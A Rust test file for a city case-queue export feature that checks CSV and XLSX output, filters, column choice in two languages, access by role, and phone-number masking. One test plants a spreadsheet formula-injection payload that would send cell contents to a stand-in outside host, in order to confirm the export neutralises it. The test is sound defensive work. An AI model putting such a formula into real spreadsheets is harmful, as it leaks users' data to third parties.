//! The queue as a file: rows, columns, order, languages, and who gets what.

use std::io::Cursor;

use calamine::{Data, Reader, Xlsx};
use http::Method;
use qige_db::testing::TestDb;
use qige_db::{Command, Failure, Tx, db_test, params};
use qige_identity::{Role, Scope};
use serde_json::json;

use crate::actors::Actor;
use crate::centre_world::Town;

qige_db::statements! {
    /// As many cases more, all like the first, ten at a time due together.
    MULTIPLY = {
        sqlite: "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?2)
            INSERT INTO cases (tenant, id, version, state, open, words, first_report, solved, late_at,
            merged_count, suspended, waiting, question_open, supervised, transferred, verified, appealed,
            escalated, extension_asked, send_backs, reworks, extensions, reopenings, received_at, updated_at)
            SELECT tenant, randomblob(16), version, state, open, words, first_report, solved,
            late_at + i / 10, merged_count, suspended, waiting, question_open, supervised, transferred,
            verified, appealed, escalated, extension_asked, send_backs, reworks, extensions, reopenings,
            received_at + i / 10, updated_at FROM cases, n WHERE tenant = ?1",
        postgres: "INSERT INTO cases (tenant, id, version, state, open, words, first_report, solved, late_at,
            merged_count, suspended, waiting, question_open, supervised, transferred, verified, appealed,
            escalated, extension_asked, send_backs, reworks, extensions, reopenings, received_at, updated_at)
            SELECT tenant, gen_random_uuid(), version, state, open, words, first_report, solved,
            late_at + i / 10, merged_count, suspended, waiting, question_open, supervised, transferred,
            verified, appealed, escalated, extension_asked, send_backs, reworks, extensions, reopenings,
            received_at + i / 10, updated_at FROM cases, generate_series(1, $2::bigint) AS n(i)
            WHERE tenant = $1",
    };
}

struct Multiply(i64);

impl Command for Multiply {
    type Output = ();

    async fn run(&self, tx: &mut Tx<'_>) -> Result<(), Failure> {
        tx.execute(MULTIPLY, params![tx.tenant(), self.0]).await?;
        Ok(())
    }
}

/// The lines of a CSV file, each cut into its cells.
async fn csv(who: &Actor, query: &str) -> Vec<Vec<String>> {
    let file = who.get(&format!("/cases/export.csv?{query}")).await.ok();
    let text = file.body.strip_prefix('\u{feff}').expect("the mark by which Excel knows UTF-8").to_owned();
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    let line = |line: csv::StringRecord| line.iter().map(str::to_owned).collect();
    reader.records().map(|record| line(record.unwrap())).collect()
}

async fn column(who: &Actor, query: &str, column: &str) -> Vec<String> {
    let lines = csv(who, &format!("{query}&column={column}")).await;
    lines.into_iter().skip(1).map(|mut line| line.remove(0)).collect()
}

#[db_test]
async fn a_file_says_byte_for_byte_what_the_queue_holds(db: TestDb) {
    let town = Town::new(&db).await;
    town.dispatched().await;
    let words = "井盖没了，\"很\"危险, 请看\r\n第二行";
    town.reported_as(&town.rider, &json!({"words": words, "lng": 110.0, "matter": null})).await;
    let file = town.dispatcher.get("/cases/export.csv").await.ok();
    assert_eq!(file.header("content-type"), "text/csv; charset=utf-8");
    assert_eq!(file.header("cache-control"), "no-store");
    assert_eq!(
        file.header("content-disposition"),
        "attachment; filename=\"cases-2026-09-23.csv\"; \
         filename*=UTF-8''%E6%A1%88%E5%8D%B7%202026-09-23.csv"
    );
    assert_eq!(&file.bytes[..3], b"\xef\xbb\xbf");
    insta::allow_duplicates! {
        insta::assert_snapshot!("csv", String::from_utf8_lossy(&file.bytes).escape_debug());
    }
    town.dispatcher.send(Method::HEAD, "/cases/export.csv", &[], axum::body::Body::empty()).await.ok();
}

#[db_test]
async fn the_filter_and_the_order_of_the_address_are_those_of_the_file(db: TestDb) {
    let town = Town::new(&db).await;
    let clerk = &town.dispatcher;
    let old = town.reported().await;
    let filed = town.filed().await;
    let declined = town.reported().await;
    town.give(clerk, &declined, "decline", &json!({"reason": "not-ours", "words": ""})).await.ok();
    let link = |case: &String| format!("http://qige.example/cases/{case}");
    let all = "state=reported&state=filed&state=declined";
    for query in ["", "state=filed", "hands=nobody", all, &format!("{all}&order=newness"), "q=nothing"] {
        let page = clerk.get_json(&format!("/cases?{query}")).await.ok().json();
        let rows = page["rows"].as_array().unwrap().iter();
        let shown: Vec<String> = rows.map(|row| link(&row["id"].as_str().unwrap().to_owned())).collect();
        assert_eq!(column(clerk, query, "link").await, shown, "{query}");
    }
    assert_eq!(column(clerk, "state=declined", "link").await, [link(&declined)]);
    assert_eq!(column(clerk, "state=declined", "decline-reason").await, ["不属于街道能办的事"]);
    assert_eq!(column(clerk, "order=newness", "link").await, [link(&filed), link(&old)]);
    // Where the page begins is the page's own.
    let page = "after=0.00000000000000000000000000000000&order=newness";
    assert_eq!(column(clerk, page, "link").await.len(), 2);
    clerk.get("/cases/export.csv?from=yesterday").await.refused(422, "日期不对");
    clerk.get("/cases/export.csv?column=reporter").await.refused(422, "");
}

#[db_test]
async fn more_cases_than_one_batch_come_once_each(db: TestDb) {
    let town = Town::new(&db).await;
    town.reported().await;
    let count = 2 * i64::from(qige_cases::queries::MAX_BATCH_ROWS);
    town.app.write(Multiply(count)).await;
    for order in ["lateness", "newness"] {
        let mut links = column(&town.dispatcher, &format!("order={order}"), "link").await;
        assert_eq!(links.len(), 1 + usize::try_from(count).unwrap(), "{order}");
        links.sort();
        links.dedup();
        assert_eq!(links.len(), 1 + usize::try_from(count).unwrap(), "{order}");
    }
}

#[db_test]
async fn columns_are_those_of_the_address_in_both_languages(db: TestDb) {
    let town = Town::new(&db).await;
    let case = town.dispatched().await;
    town.give(&town.supervisor, &case, "supervise", &json!({"words": "今天办完"})).await.ok();
    let wanted = "column=state&column=number&column=state&column=class&column=matter-key&column=urgency\
                  &column=community&column=grid&column=unit&column=reports&column=tone&column=flags\
                  &column=longitude&column=received";
    let head = "状态,案卷编号,大类,事项代码,紧急程度,社区,网格,处置部门,上报数,时限状态,标记,经度（WGS-84）,上报时间";
    let row = "已派遣,20260923-0001,市容环境类,matter-06-012,一般,晶都社区,第一网格,市政养护队,1,未到时限,督办中,118.752,\
               2026-09-23 10:00:01";
    assert_eq!(csv(&town.dispatcher, wanted).await, [head, row].map(cells), "each once, in their order");
    let mut reader = town.app.token(&town.dispatcher).await;
    reader.language = "en".to_owned();
    let head = "State,Number,Class,Matter key,Urgency,Community,Grid,Unit,Reports,Lateness,Flags,\
                Longitude (WGS-84),Received";
    let row = "Dispatched,20260923-0001,Appearance and environment,matter-06-012,Normal,晶都社区,第一网格,\
               市政养护队,1,in time,Supervised,118.752,2026-09-23 10:00:01";
    assert_eq!(csv(&reader, wanted).await, [head, row].map(cells));
    let file = reader.get("/cases/export.xlsx").await.ok();
    assert!(file.header("content-disposition").contains("UTF-8''Cases%202026-09-23.xlsx"));
}

fn cells(line: &str) -> Vec<String> {
    line.split(',').map(str::to_owned).collect()
}

#[db_test]
async fn what_a_reporter_wrote_is_computed_by_no_spreadsheet(db: TestDb) {
    let town = Town::new(&db).await;
    let formula = "=HYPERLINK(\"http://elsewhere.example/\"&A1,\"看\")";
    town.reported_as(&town.rider, &json!({"words": formula})).await;
    assert_eq!(column(&town.dispatcher, "", "words").await, [format!("'{formula}")]);
    let file = town.dispatcher.get("/cases/export.xlsx?column=words").await.ok();
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(file.bytes)).unwrap();
    let sheet = book.worksheet_range("案卷 1").unwrap();
    assert_eq!(sheet.get_value((1, 0)), Some(&Data::String(formula.to_owned())));
    assert!(book.worksheet_formula("案卷 1").unwrap().is_empty());
}

#[db_test]
async fn a_workbook_is_read_back_as_it_was_meant(db: TestDb) {
    let town = Town::new(&db).await;
    town.reported().await;
    town.dispatched().await;
    let address =
        "/cases/export.xlsx?state=dispatched&column=number&column=state&column=received&column=reports";
    let file = town.dispatcher.get(address).await.ok();
    let media_type = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
    assert_eq!(file.header("content-type"), media_type);
    assert_eq!(file.header("cache-control"), "no-store");
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(file.bytes)).unwrap();
    assert_eq!(book.sheet_names(), ["案卷 1"]);
    let sheet = book.worksheet_range("案卷 1").unwrap();
    let rows: Vec<&[Data]> = sheet.rows().collect();
    assert_eq!(rows.len(), 2);
    let text = |said: &str| Data::String(said.to_owned());
    assert_eq!(rows[0], ["案卷编号", "状态", "上报时间", "上报数"].map(text));
    assert_eq!(rows[1][..2], ["20260923-0001", "已派遣"].map(text));
    let Data::DateTime(received) = &rows[1][2] else { panic!("{:?}", rows[1][2]) };
    assert_eq!(received.to_ymd_hms_milli(), (2026, 9, 23, 10, 0, 2, 0), "by the tenant's clocks");
    assert_eq!(rows[1][3], Data::Float(1.0));
    let files = std::fs::read_dir(db.folder()).unwrap().map(|file| file.unwrap().file_name());
    assert!(files.into_iter().all(|name| !name.to_string_lossy().starts_with(".tmp")), "nothing is left");
}

#[db_test]
async fn everybody_gets_what_is_in_their_sight_and_nothing_of_a_reporter(db: TestDb) {
    let town = Town::new(&db).await;
    town.reported().await;
    let far = json!({"lng": 118.79, "words": "东边井盖没了", "matter": "matter-01-003"});
    town.reported_as(&town.rider, &far).await;
    let west = town.app.person(Role::Dispatcher, Scope::Community(town.west)).await;
    let east = town.app.person(Role::Supervisor, Scope::Community(town.east)).await;
    assert_eq!(column(&west, "", "words").await, ["摊位占了半条路"]);
    assert_eq!(column(&east, "", "words").await, ["东边井盖没了"]);
    assert_eq!(column(&east, &format!("community={}", town.west), "words").await, Vec::<String>::new());
    assert_eq!(column(&town.supervisor, "", "words").await.len(), 2);
    for outsider in [&town.rider, &town.handler, &town.worker] {
        outsider.get("/cases/export.csv").await.refused(403, "");
        outsider.get("/cases/export.xlsx").await.refused(403, "");
    }
    town.app.stranger().get("/cases/export.csv").await.asks_to_sign_in();

    let page = town.dispatcher.get_json("/cases").await.ok().json();
    let columns = page["export"]["columns"].as_array().unwrap().iter();
    let every: Vec<String> =
        columns.map(|one| format!("column={}", one["column"].as_str().unwrap())).collect();
    let file = town.dispatcher.get(&format!("/cases/export.csv?{}", every.join("&"))).await.ok();
    let (rider, clerk) = (&town.rider, &town.dispatcher);
    for secret in [&rider.account, &rider.id.unwrap().to_string(), &clerk.account] {
        assert!(!file.body.contains(secret.as_str()), "{secret} in {}", file.body);
    }
}

#[db_test]
async fn the_queue_offers_what_it_shows_as_a_file(db: TestDb) {
    let town = Town::new(&db).await;
    town.filed().await;
    let page = town.dispatcher.get("/cases?state=filed&q=%E5%8D%A0%E9%81%93").await.ok();
    assert!(page.body.contains("action=\"/cases/export.xlsx\""));
    assert!(page.body.contains("formaction=\"/cases/export.csv\""));
    assert!(page.body.contains("<input type=\"hidden\" name=\"q\" value=\"占道\">"));
    assert!(page.main().contains("导出符合筛选条件的全部案卷"));
    let described = town.app.stranger().get_json("/openapi.json").await.ok().json();
    let get = &described["paths"]["/cases/export.csv"]["get"];
    assert_eq!(get["responses"]["200"]["content"], json!({"text/csv; charset=utf-8": {}}));
    let names: Vec<&str> =
        get["parameters"].as_array().unwrap().iter().map(|one| one["name"].as_str().unwrap()).collect();
    assert!(names.contains(&"state") && names.contains(&"column"), "{names:?}");
}

#[db_test]
async fn numbers_of_people_are_masked_as_on_the_page_and_each_file_is_noted(db: TestDb) {
    let town = Town::new(&db).await;
    let auditor = town.app.person(Role::Auditor, Scope::Tenant).await;
    let case = town.reported_as(&town.rider, &json!({"words": "车主电话13812345678，苏G12345"})).await;
    town.give(&town.dispatcher, &case, "correct", &json!({"address": "门口，找13812345678"})).await.ok();
    let row = town.dispatcher.get_json("/cases").await.ok().json()["rows"][0]["words"].clone();
    let words = column(&town.dispatcher, "", "words").await;
    assert_eq!(words, [row.as_str().unwrap()], "as the queue says it");
    for column_named in ["words", "address"] {
        let said = column(&town.dispatcher, "", column_named).await.concat();
        assert!(!said.contains("13812345678") && said.contains("138****5678"), "{said}");
    }
    let book = town.dispatcher.get("/cases/export.xlsx?column=words&column=address").await.ok();
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(book.bytes)).unwrap();
    let sheet = book.worksheet_range("案卷 1").unwrap();
    assert!(sheet.rows().flatten().all(|cell| !cell.to_string().contains("13812345678")));
    town.dispatcher.get("/cases/repeats.csv").await.ok();
    town.dispatcher.get("/handover.csv").await.ok();
    let log = auditor.get_json("/admin/access").await.ok().json();
    let lines: Vec<_> = log["readings"].as_array().unwrap().iter().map(|one| &one["purpose"]).collect();
    assert_eq!(lines, vec!["export-cases"; 6], "four files of the queue, two of its other lists");
    assert_eq!(log["readings"][0]["reader"], json!(town.dispatcher.id.unwrap()));
    let page = auditor.get("/admin/access").await.ok();
    assert!(page.main().contains("整份清单\n姓名等记录\n导出案卷清单"), "{}", page.main());
}
